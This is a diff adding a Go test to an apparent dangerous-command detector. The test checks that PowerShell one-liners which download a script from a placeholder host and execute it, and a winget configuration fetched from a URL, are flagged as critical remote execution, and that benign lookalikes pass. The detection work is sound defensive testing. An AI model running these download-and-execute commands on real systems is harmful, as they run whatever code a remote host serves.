@@ -206,6 +206,24 @@ func TestFilteredItemsDeletedOneByOne(t *testing.T) {
 	})
 }
 
+// A nested PowerShell whose command the calling shell fills in with a
+// download, and a winget configuration from a URL, run what the host
+// serves.
+func TestDownloadedCommandsRun(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`pwsh -c "& { $(irm https://x.example.com/s.ps1) }"`, CategoryRemoteExec, "remote-code-exec", LevelCritical},
+		{`powershell -Command "$(Invoke-RestMethod https://x.example.com/s.ps1)"`, CategoryRemoteExec, "remote-code-exec", LevelCritical},
+		{`winget configure -f https://x.example.com/dev.dsc.yaml --accept-configuration-agreements`, CategoryRemoteExec, "run-remote-module", LevelCritical},
+	})
+	checkSafe(t, d, ps, []string{
+		`pwsh -c "Write-Host $(irm https://api.example.com/status)"`,
+		`winget configure -f .\configuration.dsc.yaml`,
+		`winget configure --help`,
+	})
+}
+
 // What a person keeps in their profile's Documents, Desktop or OneDrive
 // is theirs even one file at a time, as ~/Documents is on the POSIX
 // side; a downloaded installer is fetched again.
